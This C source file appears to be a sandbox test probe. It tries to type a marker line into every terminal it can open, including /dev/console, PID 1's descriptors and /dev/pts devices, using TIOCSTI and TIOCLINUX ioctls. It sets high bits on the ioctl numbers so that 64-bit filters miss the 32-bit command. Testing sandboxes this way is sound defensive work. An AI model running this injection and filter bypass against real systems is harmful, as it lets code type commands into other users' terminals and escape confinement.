/* Types into every terminal that it can get hold of. Says how often the kernel let it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static int typed;

static void attack(int fd, const char *which)
{
    /* Filters have looked at 64 bits of which the kernel takes 32. */
    unsigned long high[] = {0, 1UL << 32, 0xffffffffUL << 32};
    char selection[] = {3, 0}, select_all[16] = {2};
    for (unsigned i = 0; i < sizeof high / sizeof *high; i++) {
        for (const char *key = "INJECTED\n"; *key; key++)
            if (syscall(SYS_ioctl, (long)fd, high[i] | TIOCSTI, key) == 0)
                typed++;
        syscall(SYS_ioctl, (long)fd, high[i] | TIOCLINUX, select_all);
        if (syscall(SYS_ioctl, (long)fd, high[i] | TIOCLINUX, selection) == 0)
            typed++;
    }
    if (typed)
        fprintf(stderr, "typed on %s\n", which);
}

int main(void)
{
    const char *names[] = {"/dev/tty", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2", "/dev/console",
                           "/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2"};
    char name[64];
    for (int fd = 0; fd < 64; fd++) {
        snprintf(name, sizeof name, "descriptor %d", fd);
        attack(fd, name);
    }
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
        int modes[] = {O_RDONLY, O_WRONLY, O_RDWR};
        for (int mode = 0; mode < 3; mode++) {
            int fd = open(names[i], modes[mode] | O_NOCTTY | O_NONBLOCK);
            if (fd >= 0) {
                attack(fd, names[i]);
                close(fd);
            }
        }
    }
    for (int number = 0; number < 64; number++) {
        snprintf(name, sizeof name, "/dev/pts/%d", number);
        int fd = open(name, O_RDWR | O_NOCTTY | O_NONBLOCK);
        if (fd >= 0) {
            attack(fd, name);
            close(fd);
        }
    }
    printf("tried\n");
    return 0;
}
